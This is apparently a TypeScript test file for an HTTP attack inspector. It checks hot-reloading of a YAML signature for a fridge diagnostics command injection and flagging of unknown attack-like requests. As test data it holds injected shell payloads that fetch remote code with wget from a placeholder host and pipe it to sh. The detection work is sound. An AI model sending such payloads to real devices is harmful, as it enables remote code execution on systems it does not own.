// A signature file dropped into the data directory's signatures/ is picked up without a restart;
// a broken one is skipped with a warning and the rest keep working.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { HttpRequest } from '../core/http.ts';
import type { Logger } from '../core/ports.ts';
import { startReloadingInspector } from './inspector-reload.ts';

const request = (path: string, query: string): HttpRequest => ({
  seq: 1, method: 'GET', target: `${path}?${query}`, path, query, version: 'HTTP/1.1', headers: [['Host', 'cam']],
  body: new Uint8Array(), bodyBytes: 0, truncated: false, raw: null, error: null, tls: false,
});

const NEW_SIGNATURE = `name: Acme fridge diagnostics command injection
vendor: Acme
product: CoolBox 3000
classes: [appliance]
technique: T1190
match:
  method: GET
  path: { exact: /cgi-bin/diag.cgi }
  query: ['host=[^&]*[;|\`]']
extract:
  from: query
  param: host
  pattern: '[;|]\\s*(?<payload>.+)$'
`;

test('a new signature file is picked up by check(); a broken one is skipped and reported', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'hachi-signatures-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const warnings: string[] = [];
  const logger: Logger = { info: () => undefined, warn: (message, fields) => void warnings.push(`${message} ${JSON.stringify(fields)}`) };
  const inspector = await startReloadingInspector({ signatureDirs: [dir], intervalMs: 60_000, logger });
  t.after(() => inspector.stop());
  const attack = request('/cgi-bin/diag.cgi', 'host=127.0.0.1;wget%20http://198.51.100.7/f.sh%20-O-|sh');
  assert.deepEqual(inspector.inspect(attack).exploits, []);
  assert.equal(await inspector.check(), false, 'nothing changed');

  await writeFile(join(dir, 'acme-coolbox-diag.yaml'), NEW_SIGNATURE);
  await writeFile(join(dir, 'broken.yaml'), 'name: [unclosed');
  assert.equal(await inspector.check(), true);
  const [match] = inspector.inspect(attack).exploits;
  assert.equal(match?.signature, 'acme-coolbox-diag');
  assert.equal(match?.payload, 'wget http://198.51.100.7/f.sh -O-|sh');
  assert.equal(inspector.signatures(), 1);
  assert.ok(warnings.some((w) => w.includes('broken.yaml')), warnings.join('\n'));
});

test('an attack-like request no signature knows is reported as a candidate with its shape', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'hachi-signatures-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const inspector = await startReloadingInspector({ signatureDirs: [dir], intervalMs: 60_000, logger: { info: () => undefined, warn: () => undefined } });
  t.after(() => inspector.stop());
  const result = inspector.inspect(request('/cgi-bin/brandnew.cgi', 'ip=1.2.3.4;wget%20http://198.51.100.7/x%20-O%20/tmp/x'));
  assert.deepEqual(result.exploits, []);
  assert.ok(result.candidate?.shape.startsWith('GET /cgi-bin/brandnew.cgi?ip'), result.candidate?.shape);
  assert.ok(result.candidate?.reasons.length);
  assert.equal(inspector.inspect(request('/index.html', 'lang=en')).candidate, null);
});
